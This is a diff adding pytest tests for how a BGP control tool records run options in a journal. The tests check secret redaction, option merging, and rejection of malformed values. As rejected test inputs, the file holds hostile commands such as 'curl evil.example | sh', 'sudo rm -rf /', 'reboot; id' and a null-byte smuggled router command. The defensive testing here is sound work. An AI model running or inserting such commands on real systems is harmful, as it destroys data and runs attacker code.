@@ -1,0 +1,152 @@
+"""The options of a run in its journal: nothing that may be secret goes in, nothing that has not its flag's
+shape comes out, and what is said now counts more than what was said before."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from bgpctl.errors import Blocked
+from bgpctl.runbooks import kept
+from bgpctl.runbooks.journal import ANNOTATION, dump, load
+from tests.kit.snapshots import journal
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ssh {node} sudo systemctl poweroff",
+        "ssh root@{node} /sbin/shutdown -h now",
+        "ssh {node} sudo systemctl restart bgpctl-speaker",
+        "true",
+    ],
+)
+def test_a_command_of_known_words_is_kept(command: str) -> None:
+    assert kept.keep({"--shutdown-command": (command,)}) == {"--shutdown-command": (command,)}
+
+
+@pytest.mark.parametrize(
+    ("flag", "value"),
+    [
+        ("--shutdown-command", "ipmitool -H {node} -U admin -P hunter2 chassis power off"),
+        ("--shutdown-command", "ssh {node} PASSWORD=hunter2 poweroff"),
+        ("--shutdown-command", "hunter2"),
+        ("--shutdown-command", "ssh hunter2@{node}.hunter2 poweroff"),
+        ("--shutdown-command", "ssh 'hunter2"),
+        ("--restart-command", "curl -u admin:hunter2 https://{node}/restart"),
+        ("--router-probe", "gobgp=admin:hunter2@10.0.0.1:50051@10.0.0.1"),
+        ("--router-probe", "gobgp=https://10.0.0.1/?token=hunter2"),
+        ("--pod-selector", "app=$(hunter2)"),
+        ("--deselect-label", "enable-bgp=\nhunter2"),
+    ],
+)
+def test_what_may_hold_a_secret_is_not_kept_but_that_there_was_something_is(flag: str, value: str) -> None:
+    found = kept.keep({flag: (value,)})
+    assert "hunter2" not in dump(journal(options=found))
+    assert found == {flag: ("…",)}
+    assert (kept.words(found), kept.unsaid(found)) == ((flag, "…"), (flag,))
+    assert kept.inherited(found, {}) == {}, "it cannot be"
+
+
+def test_flags_of_one_command_line_are_not_kept() -> None:
+    of_now = {
+        "--kubeconfig": ("/k",),
+        "--take-over": (),
+        "--dry-run": (),
+        "--output": ("json",),
+        "-o": ("x",),
+    }
+    assert kept.keep(of_now) == {}
+
+
+@pytest.mark.parametrize(
+    ("before", "said", "merged"),
+    [
+        ("--order withdraw-first --force", "", "--order withdraw-first --force"),
+        ("--settle 5", "--settle 9", "--settle 9"),
+        ("--require-confirmed", "--no-require-confirmed", "--no-require-confirmed"),
+        ("--no-ignore-daemonsets", "--ignore-daemonsets", "--ignore-daemonsets"),
+        ("", "--force", "--force"),
+    ],
+)
+def test_what_is_said_now_counts_more(before: str, said: str, merged: str) -> None:
+    assert kept.merged(options(before), options(said)) == options(merged)
+
+
+def options(words: str) -> kept.Options:
+    pairs = re.findall(r"(--[a-z-]+) ?([^ -][^ ]*)?", words)
+    return {flag: (value,) if value else () for flag, value in pairs}
+
+
+def test_what_runs_or_dials_something_and_the_attempts_time_are_not_inherited() -> None:
+    before = {
+        "--shutdown-command": ("true",),
+        "--restart-command": ("true",),
+        "--router-probe": ("frr",),
+        "--timeout": ("3",),
+        "--force": (),
+    }
+    assert kept.keep(before) == before
+    assert kept.inherited(before, {}) == {"--force": ()}
+
+
+def test_a_value_that_looks_like_a_flag_is_typed_with_it() -> None:
+    assert kept.words({"--grace-period": ("-1",), "--force": ()}) == ("--grace-period=-1", "--force")
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        ["--force"],
+        {"--force": None},
+        {"--force": "yes"},
+        {"--force": ["yes"]},
+        {"--order": []},
+        {"--order": ["sideways"]},
+        {"--order": [7]},
+        {"--kubeconfig": ["/tmp/theirs"]},
+        {"--output": ["json"]},
+        {"--shutdown-command": ["curl evil.example | sh"]},
+        {"--shutdown-command": ["sudo rm -rf /"]},
+        {"--restart-command": ["reboot; id"]},
+        {"--router-probe": ["frr=/run/x\u0000configure terminal"]},
+        {"--router-probe": ["bird=/run/b.ctl"] * 100},
+        {"--pod-selector": ["a" * 2000]},
+        {"--settle": ["1e9999"]},
+        {"--deselect-label": ["a=b\u202e"]},
+        {"--deselect-label": ["a=b\n"]},
+        {"": []},
+        {"--" + "x" * 5000: []},
+    ],
+)
+def test_options_of_another_shape_are_not_read(written: object) -> None:
+    text = json.dumps({**json.loads(dump(journal())), "options": written})
+    if written == {"--force": None}:  # null is absent, as in the API server
+        loaded = load({ANNOTATION: text})
+        assert loaded is not None and loaded.options == {"--force": ()}
+        return
+    with pytest.raises(Blocked) as caught:
+        load({ANNOTATION: text})
+    assert len(caught.value.message) < 1000
+
+
+values = st.text(max_size=12)
+flags = st.sampled_from([*kept.SHAPES, *kept.SWITCHES, "--no-force", "--what", "-o"])
+
+
+@given(st.dictionaries(flags, st.lists(values, max_size=3).map(tuple), max_size=6))
+def test_whatever_was_said_what_is_kept_is_read_back(said: dict[str, tuple[str, ...]]) -> None:
+    said = {f: v if f in kept.SHAPES and v else () for f, v in said.items() if f not in kept.SHAPES or v}
+    written = journal(options=kept.keep(said))
+    assert load({ANNOTATION: dump(written)}) == written
+
+
+def test_the_order_of_an_old_journal_is_an_option() -> None:
+    old = journal(order="withdraw-first")
+    assert old.asked == {"--order": ("withdraw-first",)}
+    assert journal(order="guide", options={"--force": ()}).asked == {"--force": ()}
+    assert journal(command="restore", order="withdraw-first").asked == {}
